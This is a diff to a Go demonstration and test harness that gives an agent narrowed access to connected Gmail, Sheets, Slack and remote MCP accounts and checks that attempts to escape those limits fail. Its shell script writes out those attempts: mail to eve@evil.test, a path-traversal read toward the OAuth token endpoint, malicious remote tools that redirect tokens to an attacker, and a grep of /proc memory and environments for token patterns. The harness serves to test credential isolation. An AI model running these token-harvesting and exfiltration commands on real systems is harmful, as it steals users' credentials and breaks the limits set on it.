@@ -9,6 +9,7 @@ import (
 	"hotcell/client"
 	"hotcell/internal/sensitive"
 	"hotcell/test/acme/google"
+	"hotcell/test/acme/portal"
 )
 
 // accounts shows tier 1: a person connects accounts in a browser, and an agent
@@ -26,22 +27,30 @@ func (s *show) accounts(ctx context.Context) error {
 		if err := s.client.SetOAuthClient(ctx, service, service+"-client", secret); err != nil {
 			return err
 		}
-		id, err := s.connect(ctx, service)
+		id, err := s.connect(ctx, client.LinkDraft{Connector: service, Name: service})
 		if err != nil {
 			return err
 		}
 		ids = append(ids, id)
 	}
+	remote, err := s.connect(ctx, client.LinkDraft{Connector: "mcp", Name: "remote", Settings: map[string]string{"url": s.company.Base("mcp") + "/mcp"}})
+	if err != nil {
+		return err
+	}
+	ids = append(ids, remote)
 	sheet := s.company.Google.Create("Invoices", []any{"number", "amount"})
 	s.company.Google.Deliver("ada@acme.test", google.Mail{
 		From: "Babbage <babbage@acme.test>", To: "ada@acme.test", Subject: "Invoice 42", MessageID: "<m1@acme.test>", Text: "Please pay 480.50", Labels: []string{"INBOX", "UNREAD"},
 	})
-	made, err := s.client.CreateAssignment(ctx, "books", hotcell.Work{Command: agent + strings.ReplaceAll(work, "SHEET", sheet)})
+	made, err := s.client.CreateAssignment(ctx, "books", hotcell.Work{
+		Command: agent + strings.ReplaceAll(work, "SHEET", sheet), Environment: map[string]string{"ACCOUNTS": s.company.Base("accounts")},
+	})
 	if err != nil {
 		return err
 	}
 	for i, n := range []hotcell.Narrowing{
 		{Tools: []string{"search", "read"}}, {Tools: []string{"append"}}, {Tools: []string{"post"}, Rules: []hotcell.ToolRule{{When: `args.channel == "#ops"`}}},
+		{Tools: []string{"greet", "fail", "lead"}},
 	} {
 		if _, err := s.client.Attach(ctx, made.ID, ids[i], hotcell.InjectTools, n); err != nil {
 			return err
@@ -56,21 +65,25 @@ func (s *show) work(ctx context.Context, id hotcell.AssignmentID, sheet string) 
 	if err != nil {
 		return err
 	}
-	s.quote(log)
+	meant, tried, _ := strings.Cut(log, "and now what it may not:\n")
+	s.quote(meant)
 	rows, messages := s.company.Google.Rows(sheet, "Invoices"), s.company.Slack.Messages()
 	s.check(j.State == hotcell.JobSucceeded && strings.Contains(log, "Please pay 480.50"), "the agent reads ada's mail ("+string(j.State)+j.Reason+")")
 	s.check(len(rows) == 2 && rows[1][0] == "42", "it writes the invoice into the sheet")
 	s.check(len(messages) == 1 && messages[0].Channel == "C0000002", "it posts to #ops, and not to #board: the rule on the attachment refuses that")
 	s.check(len(s.company.Google.Sent("ada@acme.test")) == 0, "it sends no mail: that tool is not attached")
-	log2 := fmt.Sprint(rows, messages)
+	s.say("  and then it wants a token:")
+	s.tried(tried, tokenTries)
+	arrived := s.company.Portal.Arrived(portal.Foreign()...)
+	s.clean(fmt.Sprintf("the %d requests that a service led to its attacker", len(arrived)), fmt.Sprint(arrived))
 	s.clean("the agent's log", log)
-	s.clean("what it wrote", log2)
+	s.clean("what it wrote", fmt.Sprint(rows, messages))
 	return nil
 }
 
 // connect connects ada's account of a service, as she does in her browser.
-func (s *show) connect(ctx context.Context, service string) (hotcell.CredentialID, error) {
-	link, err := s.client.CreateLink(ctx, client.LinkDraft{Connector: service, Name: service})
+func (s *show) connect(ctx context.Context, draft client.LinkDraft) (hotcell.CredentialID, error) {
+	link, err := s.client.CreateLink(ctx, draft)
 	if err != nil {
 		return "", err
 	}
@@ -84,9 +97,13 @@ func (s *show) connect(ctx context.Context, service string) (hotcell.CredentialI
 	}
 	made, err := s.client.Connection(ctx, now.Connection)
 	if err != nil {
-		return "", fmt.Errorf("%s was not connected: %s: %w", service, now.Reason, err)
+		return "", fmt.Errorf("%s was not connected: %s: %w", draft.Name, now.Reason, err)
 	}
-	s.check(strings.Contains(page, "Connected"), fmt.Sprintf("ada opens the link, signs in at the service and allows it: %s is connected as %s", service, made.Connected.Account))
+	as := ""
+	if made.Connected.Account != "" {
+		as = " as " + made.Connected.Account
+	}
+	s.check(strings.Contains(page, "Connected"), "ada opens the link, signs in at the service and allows it: "+draft.Name+" is connected"+as)
 	return made.ID, nil
 }
 
@@ -97,14 +114,33 @@ mcp -H "Mcp-Session-Id: $session" -d '{"jsonrpc":"2.0","method":"notifications/i
 call() { printf '%s: ' "$1"; mcp -H "Mcp-Session-Id: $session" -d "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/call\",\"params\":{\"name\":\"$1\",\"arguments\":$2}}" | sed -n 's/^data: //p; /^{/p' | sed 's/.*"text":"//; s/"}\],.*//; s/\\\\"/"/g' | cut -c1-400; }
 `
 
-// work is what the agent does, and then what it may not.
+// work is what the agent does, and then what it may not. A command is told apart by
+// what is printed before it.
 const work = `call gmail_search '{"query":"subject:invoice is:unread"}'
 call gmail_read '{"id":"18c000001"}'
 call google_sheets_append '{"spreadsheet":"SHEET","range":"Invoices!A1:B1","rows":[["42","480.50"]]}'
 call slack_post '{"channel":"#ops","text":"invoice 42 is in the books"}'
 echo 'and now what it may not:'
-call slack_post '{"channel":"#board","text":"not for you"}'
-call gmail_send '{"to":["eve@evil.test"],"subject":"x","text":"y"}'
-call gmail_read '{"id":"../../../oauth2/v4/token"}'
-grep -rahoE '(ya29|xox|rt_)[A-Za-z0-9_-]{8,}' /proc/*/environ /job 2>/dev/null; true
+try() { printf 'TRIED %s: ' "$1"; mcp -H "Mcp-Session-Id: $session" -d "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/call\",\"params\":{\"name\":\"$2\",\"arguments\":$3}}"; echo; }
+try 'a channel that a rule keeps it from' slack_post '{"channel":"#board","text":"not for you"}'
+try 'a tool that is not attached' gmail_send '{"to":["eve@evil.test"],"subject":"x","text":"y"}'
+try 'a path out of its place, to the endpoint of tokens' gmail_read '{"id":"../../../oauth2/v4/token"}'
+try 'a service that repeats the token' remote_greet '{"name":"Ada"}'
+try 'an error with the token, raw and encoded' remote_fail '{}'
+try 'a redirect that leads the token to an attacker' remote_lead '{}'
+try 'an argument that is a stand-in for the token' remote_greet '{"name":"${token}"}'
+printf 'TRIED the memory, the environment and the files of its cell: '
+grep -rahoE '(ya29|xox|rt_)[A-Za-z0-9_-]{8,}' /proc/*/environ /proc/*/mem /job /tmp 2>/dev/null; echo nothing found
+printf 'TRIED the endpoint of tokens, without a client: '
+curl -sS -m 5 -d grant_type=refresh_token "$ACCOUNTS/oauth/token" 2>&1; echo
+printf 'TRIED the sockets of the server: '
+find / -xdev -type s 2>/dev/null | head; echo looked
 `
+
+// tokenTries are what work tries, and what it is told.
+var tokenTries = []try{
+	{"a channel that a rule keeps it from", "refused"}, {"a tool that is not attached", "gmail_send"}, {"a path out of its place, to the endpoint of tokens", "answered 404"},
+	{"a service that repeats the token", "[hotcell:remote]"}, {"an error with the token, raw and encoded", "[hotcell:remote]"}, {"a redirect that leads the token to an attacker", `"isError":true`},
+	{"an argument that is a stand-in for the token", "${token}"}, {"the memory, the environment and the files of its cell", "nothing found"},
+	{"the endpoint of tokens, without a client", ""}, {"the sockets of the server", "looked"},
+}
